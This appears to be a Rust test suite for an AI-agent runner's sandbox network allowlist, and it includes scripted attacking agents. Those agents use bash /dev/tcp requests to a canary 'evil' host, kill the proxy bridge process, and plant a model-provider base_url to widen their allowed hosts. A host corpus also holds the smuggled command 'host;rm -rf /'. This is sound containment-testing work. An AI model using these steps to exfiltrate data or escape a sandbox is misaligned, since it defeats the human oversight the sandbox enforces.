//! The sandbox's network allowlist (loop.toml `sandbox-network = "allowlist"`, a sandboxed
//! loop's default), executed for real under bubblewrap: a run has no network of its own and
//! reaches, through the runner's proxy, only the hosts it is allowed; an agent, and a check
//! running the agent's code, that reach for another host never get there (a canary server
//! counts every request), and the refusal is in the iteration's record and the report; the
//! same attack under `sandbox-network = "open"` does reach the canary, so it is a real one.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use crate::support::{
    Repo, assert_code, assert_ok, assert_records_agree, bwrap_available, read_kv, state_value, text,
};

/// A loopback HTTP server that answers every request with `hello-<tag>` and counts them.
pub(crate) struct Server {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Server {
    pub(crate) fn start(tag: &'static str) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&hits);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut s) = stream else { continue };
                let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                let mut head = Vec::new();
                let mut buf = [0u8; 1024];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                if head.is_empty() {
                    continue;
                }
                counted.fetch_add(1, Ordering::SeqCst);
                let _ = write!(
                    s,
                    "HTTP/1.0 200 OK\r\nConnection: close\r\n\r\nhello-{tag}\n"
                );
            }
        });
        Server { port, hits }
    }

    pub(crate) fn addr(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    pub(crate) fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// Bash functions of the test's agents and checks: `fetch HOST:PORT PATH` asks for a page
/// the way a program honouring the proxy variables does (through `$http_proxy` when it is
/// set, else straight), `direct HOST:PORT PATH` goes straight, `tunnel HOST:PORT` asks the
/// proxy for a CONNECT tunnel; each prints what came back. (`exec 3>/dev/tcp/...`: bash
/// makes that fd a socket, read and written, whatever the redirection's direction; aider's
/// linter, tree-sitter's bash grammar, takes no `<>` and would send an agent that wrote
/// these functions back to fix them instead of running its tests.)
pub(crate) const CLIENT: &str = r#"
fetch() {
  local p=${http_proxy:-}
  p=${p#http://}
  if [ -n "${http_proxy:-}" ]; then
    exec 3>"/dev/tcp/${p%:*}/${p##*:}" || return 1
    printf 'GET http://%s%s HTTP/1.0\r\n\r\n' "$1" "$2" >&3
  else
    exec 3>"/dev/tcp/${1%:*}/${1##*:}" || return 1
    printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$2" "$1" >&3
  fi
  timeout 10 cat <&3
  exec 3<&-
}
direct() {
  exec 3>"/dev/tcp/${1%:*}/${1##*:}" || return 1
  printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$2" "$1" >&3
  timeout 10 cat <&3
  exec 3<&-
}
tunnel() {
  local p=${http_proxy:-}
  p=${p#http://}
  [ -n "${http_proxy:-}" ] || return 1
  exec 3>"/dev/tcp/${p%:*}/${p##*:}" || return 1
  printf 'CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' "$1" "$1" >&3
  timeout 10 head -c 300 <&3
  exec 3<&-
}
"#;

/// An agent that fetches the allowed page into work.txt, reaches for the canary three ways
/// (through the proxy, a tunnel and straight), leaves leak.sh (the same attack, for the
/// checks to run) and claims DONE. Confirmation runs change nothing.
fn attacking_agent(repo: &Repo, ok: &str, evil: &str) -> PathBuf {
    repo.agent(
        "attacker",
        &format!(
            r#"cat >/dev/null
case $ORBIT_PHASE in confirm|wrapup) exit 0;; esac
{CLIENT}
fetch {ok} /allowed >> work.txt 2>&1
echo "proxy: $(fetch {evil} /agent-proxy 2>&1 | head -c 400)" >> "$ORBIT_AGENT_DIR/attempts"
echo "tunnel: $(tunnel {evil} 2>&1 | head -c 400)" >> "$ORBIT_AGENT_DIR/attempts"
echo "direct: $(direct {evil} /agent-direct 2>&1 | head -c 400)" >> "$ORBIT_AGENT_DIR/attempts"
cp "$ORBIT_AGENT_DIR/attempts" attempts.txt
cat > leak.sh <<'LEAK'
{CLIENT}
fetch {evil} /check-proxy
direct {evil} /check-direct
exit 0
LEAK
echo "fetched the page" > "$ORBIT_AGENT_DIR/done.md"
"#
        ),
    )
}

/// The check of the attacking agent's loop: it runs the agent's leak.sh, and passes once
/// work.txt holds the allowed page.
const LEAK_CHECK: &str = "if [ -f leak.sh ]; then bash leak.sh; fi; grep -q hello-ok work.txt";

/// The client functions as the repository's client.sh, committed: what a project's own
/// check would use.
fn commit_client(repo: &Repo) {
    repo.write("client.sh", CLIENT);
    repo.git(&["add", "client.sh"]);
    repo.git(&["commit", "-q", "-m", "client"]);
}

fn init_net_loop(repo: &Repo, agent: &Path, check: &str, extra: &[&str]) -> PathBuf {
    let mut args = vec!["--sandbox", "bwrap"];
    args.extend_from_slice(extra);
    repo.init_loop(agent, &[check], &args)
}

#[test]
fn an_allowed_host_is_reached_through_the_proxy_and_another_never_by_the_agent_nor_a_check() {
    if !bwrap_available() {
        return;
    }
    let ok = Server::start("ok");
    let evil = Server::start("evil");
    let repo = Repo::new();
    let agent = attacking_agent(&repo, &ok.addr(), &evil.addr());
    let dir = init_net_loop(&repo, &agent, LEAK_CHECK, &["--allow-host", &ok.addr()]);
    let toml = std::fs::read_to_string(dir.join("loop.toml")).unwrap();
    assert!(
        toml.contains("sandbox-network = \"allowlist\"")
            && toml.contains(&format!("allow-hosts = [\"{}\"]", ok.addr())),
        "{toml}"
    );

    let out = repo.run_loop(&dir, &[], &[]);
    assert_code(&out, 0, "DONE through the proxy");
    assert_eq!(state_value(&dir, "LAST_STATUS"), "DONE");
    assert!(repo.ws_read("work.txt").contains("hello-ok"));
    assert!(ok.hits() >= 1, "the allowed host was reached");
    // The attack was made, and refused: the proxy's 403, and no network of its own.
    let attempts = repo.ws_read("attempts.txt");
    assert!(
        attempts.contains("proxy: HTTP/1.1 403") && attempts.contains("tunnel: HTTP/1.1 403"),
        "{attempts}"
    );
    assert!(!attempts.contains("hello-evil"), "{attempts}");
    assert_eq!(evil.hits(), 0, "the canary was reached: {attempts}");

    let r = read_kv(&dir.join("iterations/000001/result.env"));
    assert_eq!(r["NET_REFUSED"], evil.addr(), "{r:?}");
    let net = std::fs::read_to_string(dir.join("iterations/000001/net.log")).unwrap();
    let refused = format!("refused {}", evil.addr());
    assert!(
        net.lines()
            .any(|l| l.contains(" 1:agent ") && l.contains(&refused))
            && net
                .lines()
                .any(|l| l.contains(" 1:check ") && l.contains(&refused)),
        "both the agent and the check asked: {net}"
    );
    let report = repo.orbit(&["report", &dir.display().to_string()]);
    assert_ok(&report, "orbit report");
    let report = text(&report);
    assert!(
        report.contains("## Refused by the sandbox's network")
            && report.contains(&format!("- iteration 1: {}", evil.addr())),
        "{report}"
    );
    let json = text(&repo.orbit(&["report", "--json", &dir.display().to_string()]));
    let at = json
        .find("\"net_refused\"")
        .unwrap_or_else(|| panic!("{json}"));
    assert!(json[at..].contains(&evil.addr()), "{json}");
    assert_records_agree(&dir);
}

#[test]
fn with_the_network_open_the_same_agent_and_check_reach_the_canary() {
    if !bwrap_available() {
        return;
    }
    let ok = Server::start("ok");
    let evil = Server::start("evil");
    let repo = Repo::new();
    let agent = attacking_agent(&repo, &ok.addr(), &evil.addr());
    let dir = init_net_loop(&repo, &agent, LEAK_CHECK, &["--sandbox-network", "open"]);
    let out = repo.run_loop(&dir, &[], &[]);
    assert_code(
        &out,
        0,
        "DONE with the network open, as before the allowlist",
    );
    let attempts = repo.ws_read("attempts.txt");
    assert!(attempts.contains("direct: HTTP/1.0 200"), "{attempts}");
    // The agent's direct request and the check's (twice: fetch goes straight without a
    // proxy, and direct), for each verify run.
    assert!(evil.hits() >= 3, "{} hits: {attempts}", evil.hits());
    let r = read_kv(&dir.join("iterations/000001/result.env"));
    assert_eq!(r["NET_REFUSED"], "", "{r:?}");
    assert!(!dir.join("iterations/000001/net.log").exists());
}

#[test]
fn a_check_that_needs_a_refused_host_stops_the_loop_at_the_red_gate_with_the_host_to_allow() {
    if !bwrap_available() {
        return;
    }
    let evil = Server::start("needed");
    let repo = Repo::new();
    let agent = repo.agent(
        "never",
        "cat >/dev/null; touch \"$ORBIT_WORKSPACE/agent-ran\"",
    );
    commit_client(&repo);
    let check = format!(
        ". ./client.sh; fetch {} /needed | grep -q hello-needed",
        evil.addr()
    );
    let dir = init_net_loop(&repo, &agent, &check, &[]);
    let out = repo.run_loop(&dir, &["--once"], &[]);
    assert_code(&out, 2, "the red gate, before any agent");
    let all = text(&out);
    assert!(
        all.contains(&format!("reached for {}", evil.addr()))
            && all.contains(&format!("--allow-host {}", evil.addr()))
            && all.contains("allow-hosts"),
        "{all}"
    );
    assert_eq!(evil.hits(), 0);
    assert!(!repo.ws().join("agent-ran").exists(), "no agent ran");
    let net = std::fs::read_to_string(dir.join("iterations/baseline/net.log")).unwrap();
    assert!(
        net.contains(&format!("baseline:check refused {}", evil.addr())),
        "{net}"
    );

    // Allowed, the same check reaches its host on the untouched tree (and passes there).
    let repo = Repo::new();
    commit_client(&repo);
    let agent = repo.agent("never", "cat >/dev/null");
    let dir = init_net_loop(&repo, &agent, &check, &["--allow-host", &evil.addr()]);
    let out = repo.run_loop(&dir, &["--once"], &[]);
    assert_code(&out, 17, "the allowed check already passes: vacuous");
    assert!(evil.hits() >= 1);
}

#[test]
fn the_agent_cannot_turn_the_proxy_off_or_around() {
    if !bwrap_available() {
        return;
    }
    let evil = Server::start("evil");
    let repo = Repo::new();
    let agent = repo.agent(
        "saboteur",
        &format!(
            r#"cat >/dev/null
case $ORBIT_PHASE in confirm|wrapup) exit 0;; esac
{CLIENT}
log() {{ echo "$*" >> attempts.txt; }}
log "env: $http_proxy $HTTPS_PROXY no_proxy=${{no_proxy-unset}}"
# The proxy's socket and configuration: read-only, and the proxy is not in sight.
log "socket write: $( (echo x > /tmp/.orbit-net/proxy.sock) 2>&1)"
log "socket remove: $(rm -f /tmp/.orbit-net/proxy.sock 2>&1)"
log "proxy dirs: $(ls -d /tmp/orbit-net.* 2>&1)"
for p in /proc/[0-9]*; do
  c=$(tr '\0' ' ' < "$p/cmdline" 2>/dev/null)
  case $c in *" proxy /tmp/orbit-net."*) log "saw the proxy: ${{p#/proc/}}" ;; esac
  case $c in *" bridge /tmp/.orbit-net/proxy.sock "*) kill -9 "${{p#/proc/}}" 2>/dev/null && log "killed the bridge ${{p#/proc/}}" ;; esac
done
# The bridge gone: a listener of its own in its place, and the socket straight.
log "after kill: $(fetch {evil} /after-kill 2>&1 | head -c 200)"
log "socket: $(printf 'GET http://{evil}/socket HTTP/1.0\r\n\r\n' | timeout 10 perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => "/tmp/.orbit-net/proxy.sock") or die "no socket: $!\n"; print $s <STDIN>; print while <$s>;' 2>&1 | head -c 200)"
log "direct: $(direct {evil} /direct 2>&1 | head -c 200)"
echo done > "$ORBIT_AGENT_DIR/done.md"
"#,
            evil = evil.addr()
        ),
    );
    let dir = init_net_loop(&repo, &agent, "test -f attempts.txt", &[]);
    let out = repo.run_loop(&dir, &["--once"], &[]);
    let attempts = repo.ws_read("attempts.txt");
    assert!(
        out.status.code() == Some(10) || out.status.code() == Some(0),
        "{}\n{attempts}",
        text(&out)
    );
    assert!(attempts.contains("env: http://127.0.0.1:"), "{attempts}");
    assert!(attempts.contains("no_proxy=unset"), "{attempts}");
    let removed = attempts
        .lines()
        .find(|l| l.starts_with("socket remove:"))
        .unwrap_or_default();
    assert!(removed.contains("Read-only file system"), "{attempts}");
    assert!(!attempts.contains("saw the proxy"), "{attempts}");
    assert!(
        attempts.contains("proxy dirs: ls: cannot access"),
        "{attempts}"
    );
    assert!(
        attempts.contains("killed the bridge"),
        "the attack was made: {attempts}"
    );
    assert!(
        attempts.contains("socket: HTTP/1.1 403"),
        "the proxy still refuses: {attempts}"
    );
    assert_eq!(evil.hits(), 0, "{attempts}");
    let r = read_kv(&dir.join("iterations/000001/result.env"));
    assert_eq!(r["NET_REFUSED"], evil.addr(), "{r:?}");
}

#[test]
fn init_refuses_a_bad_allow_host_and_a_bad_network_mode() {
    let repo = Repo::new();
    let agent = repo.agent("a", "cat >/dev/null");
    let exec = agent.display().to_string();
    for (flag, value, says) in [
        ("--allow-host", "https://api.example.com/v1", "is a URL"),
        (
            "--allow-host",
            "api.example.com:99999",
            "port from 1 to 65535",
        ),
        ("--allow-host", "bad host", "is not a host name"),
    ] {
        let out = repo.orbit(&[
            "init", "g", "--engine", "custom", "--exec", &exec, "--verify", "true", flag, value,
        ]);
        assert!(!out.status.success(), "{value}");
        assert!(
            text(&out).contains(says) && text(&out).contains("HOST:PORT"),
            "{}",
            text(&out)
        );
    }
    let out = repo.orbit(&[
        "init",
        "g",
        "--engine",
        "custom",
        "--exec",
        &exec,
        "--verify",
        "true",
        "--sandbox-network",
        "closed",
    ]);
    assert!(!out.status.success());
    assert!(text(&out).contains("allowlist"), "{}", text(&out));
    assert!(!repo.join(".orbit/g").exists());
}

#[test]
fn the_runner_and_orbit_init_take_the_same_allow_hosts() {
    let corpus = [
        "api.example.com",
        "api.example.com:8443",
        "*.example.com",
        "127.0.0.1:8080",
        "localhost",
        "[::1]:8080",
        "[2001:db8::1]",
        "a-b.c-d.example",
        "",
        "https://api.example.com",
        "api.example.com/v1",
        "api.example.com:0",
        "api.example.com:65536",
        "api.example.com:08",
        "api.example.com:",
        "-bad.example.com",
        "bad-.example.com",
        "bad_host.example.com",
        "a..b",
        ".a",
        "a.",
        "*.",
        "*",
        "ex ample.com",
        "[::1",
        "[nothost]:80",
        "host;rm -rf /",
        "h\nost",
    ];
    let work = tempfile::tempdir().unwrap();
    let body = "for h in \"$@\"; do if config_host_ok \"$h\"; then echo 1; else echo 0; fi; done";
    let mut cmd = crate::support::bash_with_parts(work.path(), &["runner/config"], body);
    cmd.args(corpus);
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let bash: Vec<bool> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l == "1")
        .collect();
    assert_eq!(bash.len(), corpus.len(), "{}", text(&out));
    for (entry, runner) in corpus.iter().zip(bash) {
        let init = orbit::config::check_allow_host(entry).is_ok();
        assert_eq!(
            runner,
            init,
            "'{}': runner {runner}, orbit init {init}",
            entry.escape_debug()
        );
    }
}

/// The base URLs the proxy lets an agent run reach from the engine's user-level
/// configuration come only from what the home record holds: an agent that writes a model
/// provider into ~/.codex/config.toml (created where the user had none: its directory is
/// writable under the sandbox, so the attack lands) is stopped as `permission_hijack` before
/// any run is given that host; the host is reached only once a human has accepted the file.
#[test]
fn a_base_url_the_agent_writes_into_the_engines_configuration_is_stopped_before_it_is_allowed() {
    if !bwrap_available() {
        return;
    }
    let evil = Server::start("evil");
    let body = format!(
        r#"c="$HOME/.codex"
mkdir -p "$c"
echo run >> "$c/test-runs"
n=$(wc -l < "$c/test-runs")
{CLIENT}
echo "run $n: $(fetch {evil} /run$n 2>&1 | head -c 200)" >> "$c/attempts"
if [ "$n" -eq 2 ]; then
  printf 'model_provider = "mirror"\n\n[model_providers.mirror]\nname = "mirror"\nbase_url = "http://{evil}/v1"\n' > "$c/config.toml"
fi"#,
        evil = evil.addr()
    );
    let (_bin, l) = crate::engines::stand_in_with("codex", &body, &["--sandbox", "bwrap"]);
    let home = l.home.path().display().to_string();
    let env = [("HOME", home.as_str()), ("OPENAI_API_KEY", "sk-fake")];
    let runs = || {
        std::fs::read_to_string(l.home.path().join(".codex/test-runs"))
            .unwrap_or_default()
            .lines()
            .count()
    };
    let attempts = || std::fs::read_to_string(l.home.path().join(".codex/attempts")).unwrap();

    assert_code(&l.run(&env), 10, "the first, honest tick");
    assert!(
        attempts().contains("run 1: HTTP/1.1 403"),
        "refused: {}",
        attempts()
    );
    let out = l.run(&env);
    let config = l.home.path().join(".codex/config.toml");
    let planted = std::fs::read_to_string(&config).unwrap_or_default();
    assert!(
        planted.contains(&format!("base_url = \"http://{}/v1\"", evil.addr())),
        "the attack was made: {planted}"
    );
    assert_code(&out, 3, "ABORTED after the run that wrote the provider");
    assert_eq!(l.state("STOP_REASON"), "permission_hijack");
    assert!(
        text(&out).contains(&config.display().to_string()),
        "{}",
        text(&out)
    );
    assert_code(&l.run(&env), 3, "the next tick stays ABORTED");
    assert_eq!(runs(), 2, "no run was started with the planted provider");
    assert_eq!(evil.hits(), 0, "{}", attempts());

    // A human who accepts the file (a provider of their own) lets the next run reach it:
    // the stop was all that stood between the agent and that host.
    let rec = l
        .repo
        .orbit(&["recover", "--repin", &l.dir.display().to_string()]);
    assert_ok(&rec, "orbit recover --repin");
    let out = l.run(&env);
    assert_eq!(runs(), 3, "{}", text(&out));
    assert!(
        attempts().contains("run 3: HTTP/1.0 200 OK"),
        "{}",
        attempts()
    );
    assert_eq!(evil.hits(), 1);
}

/// What the proxy takes from ~/.codex/config.toml is what the home record holds: a base URL
/// in a table the record leaves out (a project's trust, the notices codex writes itself) is
/// never allowed; one of a model provider, a top-level key and a header with a comment are.
#[test]
fn the_proxy_takes_base_urls_only_from_the_lines_the_home_record_holds() {
    let work = tempfile::tempdir().unwrap();
    let toml = work.path().join("config.toml");
    std::fs::write(
        &toml,
        r#"base_url = "http://top.example:81/v1"
[projects."/w"]
trust_level = "trusted"
base_url = "http://project.example/v1"
  [ projects . "/x" ]  # spaced
base_url = "http://spaced.example/v1"
[notice]
base_url = "http://notice.example/v1"
[model_providers.mirror]   # ours
base_url = "https://provider.example/v1"
[projects]
"/y" = { base_url = "http://inline.example/v1" }
[[profiles]]
base_url = "http://profile.example/v1"
"#,
    )
    .unwrap();
    let json = work.path().join("opencode.json");
    std::fs::write(
        &json,
        r#"{"provider":{"p":{"options":{"baseURL":"http://json.example:8080/v1"}}}}"#,
    )
    .unwrap();
    let body = "REPLY_HOSTS=(); sandbox_net_config_urls \"$1\"; sandbox_net_config_urls \"$2\"; printf '%s\\n' \"${REPLY_HOSTS[@]}\"";
    let mut cmd =
        crate::support::bash_with_parts(work.path(), &["runner/config", "sandbox-net"], body);
    cmd.arg(&toml).arg(&json);
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let hosts: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(
        hosts,
        [
            "top.example:81",
            "provider.example:443",
            "profile.example:80",
            "json.example:8080"
        ],
        "{}",
        text(&out)
    );
}

/// The audit notes a sandboxed loop whose network is open (P2, after the findings about its
/// runs): set so, or a loop.toml written before the allowlist, whose network stays open;
/// never a loop with the allowlist, nor an unsandboxed one (UNSANDBOXED says more).
#[test]
fn the_audit_notes_a_sandboxed_loop_whose_network_is_open() {
    let repo = Repo::new();
    let agent = repo.agent("idle", "cat >/dev/null");
    let audit = |repo: &Repo, dir: &Path| {
        let out = repo.orbit(&["audit", "--json", &dir.display().to_string()]);
        assert_code(&out, 0, "P2 notes only");
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        v["loops"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["class"] == "NETWORK_OPEN")
            .cloned()
            .collect::<Vec<_>>()
    };
    let line_of = |dir: &Path, key: &str| {
        let toml = std::fs::read_to_string(dir.join("loop.toml")).unwrap();
        1 + toml.lines().position(|l| l.starts_with(key)).unwrap()
    };

    let dir = init_net_loop(&repo, &agent, "false", &["--sandbox-network", "open"]);
    let found = audit(&repo, &dir);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["severity"], "P2");
    assert_eq!(
        found[0]["evidence"],
        format!("loop.toml:{}", line_of(&dir, "sandbox-network"))
    );
    assert!(
        found[0]["fix"]
            .as_str()
            .unwrap()
            .contains("sandbox-network = \"allowlist\""),
        "{found:?}"
    );

    // The loop.toml of a loop older than the setting: the same note, on its sandbox line.
    let toml = std::fs::read_to_string(dir.join("loop.toml")).unwrap();
    let older: String = toml
        .lines()
        .filter(|l| !l.starts_with("sandbox-network") && !l.starts_with("allow-hosts"))
        .map(|l| format!("{l}\n"))
        .collect();
    assert_ne!(older, toml);
    std::fs::write(dir.join("loop.toml"), older).unwrap();
    let out = repo.orbit(&["init", "--force", "--dir", &dir.display().to_string()]);
    assert_ok(&out, "orbit init --force of the older loop.toml");
    assert!(
        !std::fs::read_to_string(dir.join("loop.toml"))
            .unwrap()
            .contains("sandbox-network = \"allowlist\""),
        "an older loop keeps its open network"
    );
    let found = audit(&repo, &dir);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0]["message"]
            .as_str()
            .unwrap()
            .contains("written before the allowlist"),
        "{found:?}"
    );
    assert_eq!(
        found[0]["evidence"],
        format!("loop.toml:{}", line_of(&dir, "sandbox ="))
    );

    let fenced = Repo::new();
    let agent = fenced.agent("idle", "cat >/dev/null");
    let dir = init_net_loop(&fenced, &agent, "false", &[]);
    assert!(audit(&fenced, &dir).is_empty(), "the allowlist: no note");
    let plain = Repo::new();
    let agent = plain.agent("idle", "cat >/dev/null");
    let dir = plain.init_loop(&agent, &["false"], &["--sandbox", "none"]);
    assert!(
        audit(&plain, &dir).is_empty(),
        "unsandboxed: UNSANDBOXED says it"
    );
}
